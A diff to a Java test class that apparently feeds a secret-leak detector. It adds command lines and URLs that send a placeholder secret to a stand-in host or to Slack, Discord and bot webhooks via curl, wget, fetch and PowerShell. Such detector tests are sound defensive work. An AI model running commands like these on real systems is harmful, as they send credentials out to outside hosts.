@@ -38,6 +38,15 @@ final class ArgumentSecretsTest {
         "curl -d 'password=s3cret-x' https://unknown.example/",
         "curl --json '{\"client_secret\":\"s3cret-x\"}' https://unknown.example/",
         "curl https://user:s3cret-x@unknown.example/",
+        "https://unknown.example/bot123456:s3cret-x/getMe",
+        "https://hooks.slack.com/services/T00000000/B00000000/s3cret-x",
+        "https://discord.com/api/webhooks/1234567890/s3cret-x",
+        "wget --header='Authorization: Bearer s3cret-x' https://unknown.example/",
+        "http GET https://unknown.example/ X-Api-Key:s3cret-x",
+        "fetch('https://unknown.example/', {headers: {\"Authorization\": \"Bearer s3cret-x\"}})",
+        "Invoke-RestMethod -Uri https://unknown.example/ -Headers @{'X-Auth-Token' = 's3cret-x'}",
+        "sudo curl -H 'Authorization: Bearer s3cret-x' https://unknown.example/",
+        "API_KEY=s3cret-x curl https://unknown.example/?q=$API_KEY",
         "curl --proxy-user a:s3cret-x https://unknown.example/",
         "curl ^\"https://unknown.example/^\" -H ^\"Authorization: Bearer s3cret-x^\"");
   }
